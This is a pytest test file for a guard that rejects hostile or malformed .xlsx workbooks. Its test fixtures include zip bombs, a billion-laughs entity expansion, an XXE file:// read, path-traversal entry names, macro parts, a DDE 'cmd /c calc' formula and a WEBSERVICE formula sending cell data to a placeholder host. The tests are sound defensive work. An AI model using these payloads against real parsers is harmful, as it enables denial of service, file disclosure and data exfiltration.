"""Files that are not what they claim (reliability 3.3, cases 1 to 18): refused whole."""

import resource
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import IO

import pytest

from tests.workbooks.making import (
    MAIN,
    RELATIONS,
    TITLES,
    Xml,
    parts,
    people,
    person,
    read,
    rows_xml,
    save,
    sheet_xml,
    workbook,
)
from workbooks.guard import Limits, inspect
from workbooks.inventory import Refused

ROOT = Path(__file__).resolve().parents[2]

PLAIN_SHEET = sheet_xml(rows_xml([TITLES, person()]))
MEGABYTE = 1024 * 1024

INSPECT_WITHIN = """
import resource, sys
from pathlib import Path
from workbooks.guard import inspect
from workbooks.inventory import Refused
spare = int(sys.argv[2])
used = int(open("/proc/self/statm").read().split()[0]) * resource.getpagesize()
resource.setrlimit(resource.RLIMIT_AS, (used + spare, used + spare))
resource.setrlimit(resource.RLIMIT_CPU, (20, 20))
try:
    print("accepted", inspect(Path(sys.argv[1])).sheets[0].rows)
except Refused as refusal:
    print("refused", refusal.code)
"""


def inspect_within(path: Path, spare: int) -> str:
    """Run the guard in a process that may take only ``spare`` more bytes."""
    done = subprocess.run(
        [sys.executable, "-c", INSPECT_WITHIN, str(path), str(spare)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    return done.stdout.strip()


@contextmanager
def adding(path: Path, name: str) -> Iterator[IO[bytes]]:
    """Write one part of any size into a zip, bit by bit."""
    with (
        zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as package,
        package.open(name, "w", force_zip64=True) as part,
    ):
        yield part


def refusal(path: Path) -> Refused:
    with pytest.raises(Refused) as caught:
        inspect(path)
    return caught.value


def test_case_01_nested_zip_renamed_xlsx_is_refused_small(tmp_path):
    inner = tmp_path / "inner.zip"
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("zeros", b"\0" * (8 * MEGABYTE))
    outer = tmp_path / "a.xlsx"
    with zipfile.ZipFile(outer, "w") as package:
        for number in range(16):
            package.write(inner, f"lib {number}.zip")

    assert refusal(outer).code == "not_xlsx"
    assert inspect_within(outer, 20 * MEGABYTE) == "refused not_xlsx"


def test_case_02_a_million_rows_in_a_small_file_are_refused_early(tmp_path):
    path = tmp_path / "a.xlsx"
    head, tail = sheet_xml("{}").encode().split(b"{}")
    made = parts("")
    del made["xl/worksheets/sheet1.xml"]
    save(path, made)
    with adding(path, "xl/worksheets/sheet1.xml") as part:
        part.write(head)
        for start in range(1, 1_000_001, 10_000):
            numbers = range(start, start + 10_000)
            row = '<row r="{0}"><c r="A{0}"><v>1</v></c></row>'
            part.write("".join(map(row.format, numbers)).encode())
        part.write(tail)

    refused = refusal(path)

    assert refused.code == "too_many_rows"
    assert "超过 100000 行" in refused.message
    assert inspect_within(path, 20 * MEGABYTE) == "refused too_many_rows"


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("xl/worksheets/sheet1.xml", "too_large_inside"),
        ("xl/sharedStrings.xml", "compression_bomb"),
    ],
)
def test_case_03_one_huge_text_is_refused_by_the_directory(tmp_path, name, code):
    path = tmp_path / "a.xlsx"
    made = parts(PLAIN_SHEET)
    made.pop(name, None)
    save(path, made)
    with adding(path, name) as part:
        for _ in range(400):
            part.write(b"A" * MEGABYTE)

    assert path.stat().st_size < 4 * MEGABYTE
    assert refusal(path).code == code
    assert inspect_within(path, 20 * MEGABYTE) == f"refused {code}"


def test_case_03_a_huge_text_under_the_total_is_refused_by_its_ratio(tmp_path):
    made = parts(PLAIN_SHEET, shared=f"<si><t>{'A' * (30 * MEGABYTE)}</t></si>")

    assert refusal(save(tmp_path / "a.xlsx", made)).code == "compression_bomb"


def test_case_03_a_huge_text_in_a_row_is_refused_without_holding_it(tmp_path):
    text = f'<row r="1"><c r="A1" t="inlineStr"><is><t>{"A" * (60 * MEGABYTE)}'
    made = parts(sheet_xml(f"{text}</t></is></c></row>"))
    path = save(tmp_path / "a.xlsx", made)

    assert inspect_within(path, 20 * MEGABYTE) == "refused row_too_long"


@pytest.mark.parametrize(
    ("reference", "code"),
    [
        ("XFD1048576", "too_many_columns"),
        ("A1048576", "far_cell"),
        ("BI1", "too_many_columns"),
    ],
)
def test_case_04_a_far_cell_is_refused(tmp_path, reference, code):
    row = reference.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    rows = f'<row r="{row}"><c r="{reference}"><v>1</v></c></row>'
    path = save(tmp_path / "a.xlsx", parts(sheet_xml(rows)))

    refused = refusal(path)

    assert path.stat().st_size < 5000
    assert refused.code == code
    assert "请删除" in refused.message
    assert inspect_within(path, 20 * MEGABYTE) == f"refused {code}"


def test_case_05_a_dimension_that_claims_everything_changes_nothing(tmp_path):
    path = people(
        tmp_path / "a.xlsx", person(1), before='<dimension ref="A1:XFD1048576"/>'
    )

    assert inspect(path).sheets[0].rows == 2
    assert read(path).tally.data == 1


def test_case_06_a_dimension_that_is_too_small_loses_no_row(tmp_path):
    people_rows = [person(n, head=f"李{'甲乙丙丁戊己庚辛壬癸'[n]}") for n in range(10)]
    path = people(tmp_path / "a.xlsx", *people_rows, before='<dimension ref="A1:B3"/>')

    rows = list(read(path))

    assert [row.values["head"] for row in rows] == [row[1] for row in people_rows]
    assert not any(row.problems for row in rows)


def test_case_07_a_sheet_without_a_dimension_is_read(tmp_path):
    path = people(tmp_path / "a.xlsx", person(1), person(2))

    with zipfile.ZipFile(path) as package:
        assert b"<dimension" not in package.read("xl/worksheets/sheet1.xml")
    assert read(path).tally.data == 2


BILLION_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY a "lol">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9))
    + "]>"
)


def test_case_08_entities_that_expand_are_refused(tmp_path):
    rows = '<row r="1"><c r="A1" t="inlineStr"><is><t>&j;</t></is></c></row>'
    made = parts(sheet_xml(rows, prolog=BILLION_LAUGHS))
    path = save(tmp_path / "a.xlsx", made)

    refused = refusal(path)

    assert refused.code == "doctype"
    assert "DOCTYPE" in refused.message
    assert inspect_within(path, 20 * MEGABYTE) == "refused doctype"


def test_case_09_an_external_entity_is_refused_and_never_read(tmp_path):
    canary = tmp_path / "canary.txt"
    canary.write_text("canary-4711")
    prolog = f'<!DOCTYPE x [<!ENTITY c SYSTEM "file://{canary}">]>'
    rows = '<row r="1"><c r="A1" t="inlineStr"><is><t>&c;</t></is></c></row>'

    refused = refusal(save(tmp_path / "a.xlsx", parts(sheet_xml(rows, prolog=prolog))))

    assert refused.code == "doctype"
    assert "canary" not in refused.message


@pytest.mark.parametrize(
    "name",
    [
        "xl/sharedStrings.xml",
        "xl/styles.xml",
        "xl/workbook.xml",
        "xl/_rels/workbook.xml.rels",
        "_rels/.rels",
        "[Content_Types].xml",
        "docProps/core.xml",
        "xl/drawings/vmlDrawing1.vml",
    ],
)
def test_case_10_a_doctype_in_any_part_is_refused(tmp_path, name):
    made = parts(PLAIN_SHEET, shared="<si><t>x</t></si>", styles="<fonts/>")
    content = made.get(name, "<x/>")
    made[name] = '<!DOCTYPE x [<!ENTITY a "b">]>' + str(content)

    assert refusal(save(tmp_path / "a.xlsx", made)).code == "doctype"


def test_case_11_a_workbook_with_macros_is_refused(tmp_path):
    made = parts(PLAIN_SHEET) | {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0macros"}

    refused = refusal(save(tmp_path / "a.xlsm", made))

    assert refused.code == "macro"
    assert "另存为" in refused.message


def test_case_12_a_workbook_with_macros_is_refused_under_any_name(tmp_path):
    made = parts(PLAIN_SHEET)
    made["[Content_Types].xml"] = str(made["[Content_Types].xml"]).replace(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )

    assert refusal(save(tmp_path / "a.xlsx", made)).code == "macro"


def _zip_with(path: Path, *names: str) -> Path:
    return save(path, dict.fromkeys(names, "x"))


def test_case_13_other_spreadsheet_formats_are_refused_with_the_way_out(tmp_path):
    old = tmp_path / "a.xls"
    old.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000)
    others = [
        old,
        _zip_with(tmp_path / "a.ods", "mimetype", "content.xml"),
        _zip_with(tmp_path / "a.xlsb", "[Content_Types].xml", "xl/workbook.bin"),
        _zip_with(tmp_path / "a.docx", "[Content_Types].xml", "word/document.xml"),
    ]

    for path in others:
        refused = refusal(path)
        assert refused.code in {"old_format", "not_xlsx"}
        assert "另存为" in refused.message
        assert "*.xlsx" in refused.message


@pytest.mark.parametrize(
    "content",
    [
        b"<html><body><table><tr><td>1</td></tr></table></body></html>",
        b"\xef\xbb\xbf\n<!DOCTYPE html><table></table>",
        b"MIME-Version: 1.0\nContent-Type: multipart/related",
        b'<?xml version="1.0"?><Workbook/>',
    ],
)
def test_case_14_a_web_page_named_like_a_workbook_is_refused(tmp_path, content):
    path = tmp_path / "a.xls"
    path.write_bytes(content)

    refused = refusal(path)

    assert refused.code == "not_xlsx"
    assert "网页" in refused.message


@pytest.mark.parametrize("content", [b"%PDF-1.7", b"Rar!\x1a", b"\x89PNG\r\n"])
def test_case_14_other_files_are_named_for_what_they_are(tmp_path, content):
    path = tmp_path / "a.xlsx"
    path.write_bytes(content)

    assert refusal(path).code == "not_xlsx"


def test_case_15_an_encrypted_workbook_is_refused_as_such(tmp_path):
    path = tmp_path / "a.xlsx"
    stream = "EncryptedPackage".encode("utf-16-le")
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 65_520 + stream)

    refused = refusal(path)

    assert refused.code == "encrypted"
    assert "已加密" in refused.message


def test_case_15_an_encrypted_zip_entry_is_refused_as_such(tmp_path):
    path = people(tmp_path / "a.xlsx", person())
    raw = bytearray(path.read_bytes())
    raw[raw.rindex(b"PK\x01\x02") + 8] |= 0x1
    path.write_bytes(raw)

    assert refusal(path).code == "encrypted"


def test_case_16_a_truncated_file_is_refused(tmp_path):
    path = people(tmp_path / "a.xlsx", person())
    whole = path.read_bytes()

    for length in (5, len(whole) // 2, len(whole) - 10):
        path.write_bytes(whole[:length])
        assert refusal(path).code == "damaged"


def test_case_16_a_wrong_checksum_is_refused(tmp_path):
    path = people(tmp_path / "a.xlsx", person())
    with zipfile.ZipFile(path) as package:
        at = package.getinfo("xl/worksheets/sheet1.xml").CRC.to_bytes(4, "little")
    raw = path.read_bytes()
    path.write_bytes(raw.replace(at, b"\x01\x02\x03\x04"))

    assert refusal(path).code == "damaged"


def test_case_16_an_empty_file_is_refused(tmp_path):
    path = tmp_path / "a.xlsx"
    path.write_bytes(b"")

    assert refusal(path).code == "empty_file"


def test_case_16_broken_xml_is_refused(tmp_path):
    broken = PLAIN_SHEET.replace("</sheetData>", "")

    assert refusal(save(tmp_path / "a.xlsx", parts(broken))).code == "damaged"


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_case_17_two_entries_of_one_name_are_refused(tmp_path):
    path = save(tmp_path / "a.xlsx", parts(PLAIN_SHEET))
    with zipfile.ZipFile(path, "a") as package:
        package.writestr("xl/worksheets/sheet1.xml", PLAIN_SHEET)

    assert refusal(path).code == "duplicate_part"


@pytest.mark.parametrize("name", ["../../etc/x.xml", "/etc/x.xml", "xl\\x.xml"])
def test_case_17_an_entry_that_leaves_the_folder_is_refused(tmp_path, name):
    path = save(tmp_path / "a.xlsx", parts(PLAIN_SHEET) | {name: "<x/>"})

    assert refusal(path).code == "unsafe_part"


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("xl/externalLinks/externalLink1.xml", "external_link"),
        ("xl/connections.xml", "external_link"),
        ("xl/embeddings/oleObject1.bin", "active_part"),
        ("xl/activeX/activeX1.xml", "active_part"),
        ("xl/macrosheets/sheet1.xml", "macro"),
    ],
)
def test_case_18_parts_that_fetch_or_run_are_refused(tmp_path, name, code):
    path = save(tmp_path / "a.xlsx", parts(PLAIN_SHEET) | {name: "<x/>"})

    refused = refusal(path)

    assert refused.code == code
    assert "请" in refused.message


@pytest.mark.parametrize(
    "formula",
    [
        "WEBSERVICE(&quot;http://x.example/&quot;&amp;A1)",
        "webservice (A1)",
        "cmd|&apos;/c calc&apos;!A0",
        "IMPORTDATA(A1)",
    ],
)
def test_case_18_formulas_that_fetch_are_refused(tmp_path, formula):
    evil = Xml(f'<c r="{{ref}}"><f>{formula}</f><v>1</v></c>')
    path = people(tmp_path / "a.xlsx", person(remark=evil))

    assert refusal(path).code == "fetching_formula"


def test_case_18_an_external_relation_is_refused_but_a_hyperlink_is_not(tmp_path):
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        'relationships"><Relationship Id="rId1" TargetMode="External"'
        f' Type="{RELATIONS}/%s" Target="http://x.example/"/></Relationships>'
    )
    name = "xl/worksheets/_rels/sheet1.xml.rels"
    link = save(
        tmp_path / "a.xlsx", parts(PLAIN_SHEET) | {name: relations % "hyperlink"}
    )
    image = save(tmp_path / "b.xlsx", parts(PLAIN_SHEET) | {name: relations % "image"})

    assert inspect(link).sheets[0].rows == 2
    assert refusal(image).code == "external_link"


def test_a_zip_with_a_huge_directory_is_refused_before_it_is_loaded(tmp_path):
    path = tmp_path / "a.xlsx"
    with zipfile.ZipFile(path, "w") as package:
        for number in range(70_000):
            package.writestr(f"{number}", b"")

    assert refusal(path).code == "too_many_parts"
    assert inspect_within(path, 20 * MEGABYTE) == "refused too_many_parts"


def test_a_file_over_the_size_limit_is_refused(tmp_path):
    path = tmp_path / "a.xlsx"
    path.write_bytes(b"PK\x03\x04" + b"\0" * 2048)

    with pytest.raises(Refused) as caught:
        inspect(path, Limits(size=1024))

    assert caught.value.code == "too_large"


def test_the_guard_counts_a_legal_file_in_little_memory(tmp_path):
    row = [f"魏家桥社区{n}组" for n in range(20)]
    path = workbook(tmp_path / "a.xlsx", [row] * 5_000)

    assert inspect_within(path, 20 * MEGABYTE) == "accepted 5000"
    assert MAIN in zipfile.ZipFile(path).read("xl/workbook.xml").decode()


def test_refusals_name_no_path_and_leave_this_process_small(tmp_path):
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    rows = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    path = save(tmp_path / "secret-name.xlsx", parts(sheet_xml(rows)))

    for _ in range(20):
        assert "secret-name" not in refusal(path).message

    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert grown * 1024 < 20 * MEGABYTE
